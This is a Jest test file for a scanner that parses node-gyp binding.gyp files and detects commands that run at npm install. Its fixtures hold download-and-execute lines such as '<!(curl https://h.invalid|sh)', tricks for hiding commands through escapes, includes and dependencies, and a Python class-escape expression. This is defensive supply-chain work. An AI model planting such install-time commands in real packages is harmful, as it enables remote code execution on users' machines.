import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { readGyp } from '../../src/code/gyp.ts';
import { installSteps } from '../../src/code/install-steps.ts';
import { noManifest } from '../../src/code/manifest.ts';

describe('gyp files', () => {
  it('are Python literals: comments, single quotes, trailing commas, texts side by side', () => {
    const facts = readGyp(
      `# c\n{ 'targets': [ { "target_name": 'a', 'sources': ['a.cc', "b" '.cc',], 'include_dirs': ["<!(node -p \\"require('nan')\\")"], }, ], }`,
    );
    expect(facts.sources).toEqual(['a.cc', 'b.cc']);
    expect(facts.commands).toEqual([`node -p "require('nan')"`]);
  });

  it('hide commands in escapes, keys, lists and nested parentheses', () => {
    expect(readGyp(`{"a":["<!@(\\x6eode x.js)", "<!(sh -c '(a; b)') c"], "<!(k)": 1}`).commands).toEqual(['node x.js', "sh -c '(a; b)'", 'k']);
    expect(readGyp(`{'v': '>!(late)', 'w': "^!@(later)"}`).commands).toEqual(['late', 'later']);
  });

  it('run actions and take in others', () => {
    const facts = readGyp(
      `{'includes':['x.gypi'],'targets':[{'actions':[{'action_name':'n','inputs':[],'outputs':[],'action':['node','x.js','<@(_inputs)']}]}]}`,
    );
    expect(facts).toMatchObject({ includes: ['x.gypi'], actions: [['node', 'x.js', '<@(_inputs)']] });
  });

  it('show conditions that reach into Python', () => {
    expect(readGyp(`{'conditions':[["().__class__.__bases__[0]", {}]]}`).expressions).toHaveLength(1);
  });

  it('put in variables, start modules of Python and name what is built first', () => {
    const facts = readGyp(
      `{'variables':{'c%':'curl x'},'targets':[{'sources':['<!(<(c) | sh)','<!pymod_do_main(setup a)'],'dependencies':['deps/b.gyp:b']}]}`,
    );
    expect(facts.commands).toEqual(['curl x | sh', 'python3 setup.py a']);
    expect(facts.dependencies).toEqual(['deps/b.gyp']);
  });

  it.each<[string, string, Readonly<Record<string, string>>]>([
    ['in the folder a script goes to', 'cd native && node-gyp rebuild', { 'native/binding.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` }],
    ['in the folder a script names', 'node-gyp rebuild --directory=native', { 'native/binding.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` }],
    [
      'taken in by one that is taken in',
      'node-gyp rebuild',
      {
        'binding.gyp': `{'includes':['x/a.gypi']}`,
        'x/a.gypi': `{'includes':['b.gypi']}`,
        'x/b.gypi': `{'a':'<!(curl https://h.invalid|sh)'}`,
      },
    ],
    [
      'built because another needs it',
      'node-gyp rebuild',
      { 'binding.gyp': `{'dependencies':['deps/b.gyp:b']}`, 'deps/b.gyp': `{'a':'<!(curl https://h.invalid|sh)'}` },
    ],
  ])('are followed: %s', (_, install, files) => {
    const manifest = { ...noManifest, scripts: new Map([['install', install]]) };
    const steps = installSteps(manifest, files['binding.gyp'], (path) => files[path], false);
    const [file] = Object.keys(files).slice(-1);
    expect(steps.filter(({ facts }) => facts.some(({ doings }) => doings.some(({ kind }) => kind === 'download-execute')))).toEqual([
      expect.objectContaining({ file }),
    ]);
  });

  it('never fail, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'{}[]()\'",:#\\ <!@x1\n'), maxLength: 120 }), (text) => readGyp(text).commands.length >= 0),
      { seed: 3, numRuns: 3000 },
    );
    for (const text of ['{"a":'.repeat(50_000), '['.repeat(100_000), '<!('.repeat(30_000)]) expect(() => readGyp(text)).not.toThrow();
  });
});
